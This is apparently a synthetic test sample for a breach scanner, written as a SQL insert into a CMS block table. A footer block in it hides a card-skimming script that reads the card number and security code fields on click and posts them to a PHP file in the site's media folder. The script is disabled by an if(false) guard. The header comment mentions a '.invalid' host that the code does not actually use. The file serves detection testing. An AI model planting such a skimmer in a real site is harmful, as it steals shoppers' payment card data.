-- synthetic test sample for breachscan: CMS block dump shape - a footer block holds a script
-- that reads card fields on click and posts them away. Inert (`if(false)`, .invalid host).
INSERT INTO `cms_block` (`block_id`, `title`, `identifier`, `content`, `is_active`) VALUES
(7, 'Footer links', 'footer_links', '<ul class=\"links\"><li><a href=\"/about\">About us</a></li></ul><script>if(false){document.addEventListener(\"click\",function(){var d=document.getElementById(\"cc_number\").value+\";\"+document.getElementById(\"cc_cid\").value;var x=new XMLHttpRequest();x.open(\"POST\",\"/media/wysiwyg/x.php\");x.send(d);});}</script>', 1);
